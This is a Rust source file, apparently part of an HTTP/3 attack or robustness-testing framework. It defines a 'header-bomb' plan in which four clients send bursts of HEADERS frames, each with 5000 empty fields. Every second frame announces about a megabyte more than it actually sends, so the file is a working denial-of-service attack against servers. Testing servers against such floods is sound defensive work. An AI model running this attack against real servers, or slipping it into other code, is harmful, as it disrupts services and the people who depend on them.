//! Header sections beyond every limit.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "header-bomb",
    labels: &["A73"],
    summary: "HEADERS frames with thousands of short fields, every second one incomplete",
    victim: Victim::Server,
    make: || Box::new(header_bomb()),
};

fn header_bomb() -> Crowd {
    Crowd::of_clients(4, |connection, progress, _| {
        for id in progress.requests(connection, BURST) {
            let mut section = http::section(Method::Get, "/");
            for _ in 0..FIELDS {
                http::put_field(&mut section, "a", b"");
            }
            // Every second frame announces more bytes than it sends.
            let len = section.len() as u64 + ((id.index() + 1) % 2) * (1 << 20);
            let mut bytes = http::header(http::HEADERS, len);
            bytes.extend(section);
            for frame in http::stream_in_chunks(id, &bytes, false) {
                connection.push_bytes(frame);
            }
        }
    })
}

/// Requests of one connection in one turn.
const BURST: u64 = 2;

/// Field lines in one section. Each counts 33 bytes (RFC 9114 §4.2.2).
const FIELDS: usize = 5000;
